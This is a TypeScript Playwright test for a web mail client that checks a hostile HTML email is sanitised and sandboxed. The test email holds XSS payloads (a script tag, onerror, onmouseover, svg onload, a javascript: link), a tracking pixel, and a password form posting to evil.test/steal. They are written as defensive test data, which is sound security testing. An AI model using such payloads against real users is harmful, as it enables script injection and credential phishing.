import { randomBytes } from 'node:crypto'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { eq } from 'drizzle-orm'
import MailComposer from 'nodemailer/lib/mail-composer'
import type { Page } from 'playwright-core'
import { afterAll, beforeAll, expect, it } from 'vitest'
import { mailMessages } from '../apps/server/src/db/schema/index.ts'
import { buildOwner, request } from '../apps/server/src/testing/factories.ts'
import { type MailServers, startMailServers } from '../apps/server/src/testing/mailservers.ts'
import { violations } from './axe.ts'
import { signIn } from './flows.ts'
import { type Harness, startHarness } from './harness.ts'

// A hostile HTML email is shown as the sender laid it out, and nothing in it runs, loads or phones home.

const mailbox = { username: 'hedy', password: `pw-${randomBytes(6).toString('hex')}` }
let harness: Harness
let servers: MailServers

beforeAll(async () => {
  servers = await startMailServers([mailbox])
  harness = await startHarness({ env: { ALLOW_PRIVATE_TARGETS: '127.0.0.1/32' } })
})
afterAll(async () => {
  await harness?.close()
  await servers?.stop()
})

async function shoot(page: Page, name: string) {
  if (process.env.MAIL_SCREENSHOTS) await page.screenshot({ path: join(tmpdir(), `closeroom-mail-${name}.png`), fullPage: true })
}

/** What the page did that it must not: dialogs opened, globals set by the mail's script, requests to the tracker. */
function watch(page: Page) {
  const seen = { dialogs: [] as string[], tracker: [] as string[] }
  page.on('dialog', (dialog) => {
    seen.dialogs.push(dialog.message())
    void dialog.dismiss()
  })
  page.on('request', (req) => {
    if (req.url().includes('tracker.test')) seen.tracker.push(req.url())
  })
  return seen
}

const pwned = (page: Page) => page.evaluate(() => (window as unknown as { pwned?: number }).pwned ?? 0)

it('shows a hostile HTML email safely, with its images held back and its attachment downloadable', async () => {
  const app = harness.server.app
  const owner = await buildOwner(app, { name: 'Hedy Seller' })
  const connected = await request(app, owner, 'PUT', '/api/mail/mailbox', servers.settingsFor(mailbox, 'hedy@seller.test'))
  expect(connected.statusCode, connected.body).toBe(200)
  const pdf = Buffer.from('%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n')
  const raw = await new MailComposer({
    from: 'Mallory <mallory@buyer.test>',
    to: 'hedy@seller.test',
    subject: 'Your invoice is ready',
    messageId: '<hostile@buyer.test>',
    text: 'Your invoice is ready.',
    html:
      '<h1 style="color:#1c252e">Your invoice is ready</h1>' +
      '<p onmouseover="top.pwned=1">Hover <b>here</b><script>top.pwned=2;alert("script")</script></p>' +
      '<img src="https://tracker.test/open.gif" alt="Mallory logo" width="80" height="20">' +
      '<img src="x" onerror="top.pwned=3">' +
      '<a href="https://buyer.test/pay">Pay now</a> <a href="javascript:top.pwned=4">Click me</a>' +
      '<form action="https://evil.test/steal"><input name="password" placeholder="Your password"><button>Log in</button></form>' +
      '<iframe src="https://evil.test/frame"></iframe>',
    attachments: [{ filename: 'invoice.pdf', content: pdf }],
  })
    .compile()
    .build()
  const text = raw.toString()
  const split = text.indexOf('\r\n\r\n')
  const uid = await servers.deliver(mailbox, text.slice(0, split).split('\r\n'), text.slice(split + 4))
  await app.inbox.sync.readUpTo(connected.json().id, uid)

  const page = await harness.newPage()
  const seen = watch(page)
  await signIn(page, owner.user.email, 'Hedy Seller')
  await page.goto('/mail')
  await page.getByRole('region', { name: 'Conversations' }).getByText('Your invoice is ready', { exact: true }).click()
  const frame = page.frameLocator('iframe[title="Email: Your invoice is ready"]')
  await frame.getByRole('heading', { name: 'Your invoice is ready' }).waitFor()
  await frame.getByText('Hover').hover()

  // The frame may run no script whatever it holds, and the server left none in it.
  const iframe = page.locator('iframe[title="Email: Your invoice is ready"]')
  expect(await iframe.getAttribute('sandbox')).toBe('allow-same-origin allow-popups allow-popups-to-escape-sandbox')
  expect(await frame.locator('script, form, input, iframe, [onmouseover], [onerror]').count()).toBe(0)
  const pay = frame.getByRole('link', { name: 'Pay now' })
  expect(await pay.getAttribute('target')).toBe('_blank')
  expect(await pay.getAttribute('rel')).toBe('noopener noreferrer')
  expect(await frame.getByRole('link', { name: 'Click me' }).count()).toBe(0)
  expect(await frame.getByText('Click me').getAttribute('href')).toBeNull()

  // The attachment is listed under the message and downloads, for this member.
  const attachment = page.getByRole('list', { name: 'Attachments' }).getByRole('link', { name: /^invoice\.pdf · / })
  const href = await attachment.getAttribute('href')
  const download = await page.evaluate(async (url) => {
    const res = await fetch(url ?? '', { credentials: 'include' })
    return { status: res.status, type: res.headers.get('content-type'), size: (await res.arrayBuffer()).byteLength }
  }, href)
  expect(download).toEqual({ status: 200, type: 'application/pdf', size: pdf.length })

  await shoot(page, 'html-light')
  expect(await violations(page)).toEqual([])

  // Remote images load only when asked: the tracker heard nothing until then.
  expect(seen.tracker).toEqual([])
  await page.getByRole('button', { name: 'Show images' }).click()
  await expect.poll(() => seen.tracker).toEqual(['https://tracker.test/open.gif'])

  // Even markup the sanitiser would never let through does not run in the frame (a second lock).
  const [stored] = await app.database.db
    .select({ id: mailMessages.id })
    .from(mailMessages)
    .where(eq(mailMessages.messageId, '<hostile@buyer.test>'))
  await app.database.db
    .update(mailMessages)
    .set({ html: '<p>Raw</p><script>top.pwned=5;alert(1)</script><img src="x" onerror="top.pwned=6"><svg onload="top.pwned=7"></svg>' })
    .where(eq(mailMessages.id, stored?.id ?? ''))
  const dark = await harness.newPage()
  const darkSeen = watch(dark)
  await dark.context().addCookies([{ name: 'themeMode', value: 'dark', url: harness.server.url }])
  await signIn(dark, owner.user.email, 'Hedy Seller')
  await dark.goto('/mail')
  await dark.getByRole('region', { name: 'Conversations' }).getByText('Your invoice is ready', { exact: true }).click()
  await dark.frameLocator('iframe[title="Email: Your invoice is ready"]').getByText('Raw').waitFor()
  await shoot(dark, 'html-dark')
  expect(await violations(dark)).toEqual([])
  // On a phone the frame takes the width of the screen, and the page stays clean.
  const phone = await harness.newPage({ viewport: { width: 390, height: 844 } })
  const phoneSeen = watch(phone)
  await signIn(phone, owner.user.email, 'Hedy Seller')
  await phone.goto('/mail')
  await phone.getByText('Your invoice is ready', { exact: true }).click()
  await phone.frameLocator('iframe[title="Email: Your invoice is ready"]').getByText('Raw').waitFor()
  await shoot(phone, 'html-phone')
  expect(await violations(phone)).toEqual([])
  expect(await pwned(phone)).toBe(0)
  expect(phoneSeen.dialogs).toEqual([])
  expect(await pwned(dark)).toBe(0)
  expect(await pwned(page)).toBe(0)
  expect([...seen.dialogs, ...darkSeen.dialogs]).toEqual([])
})
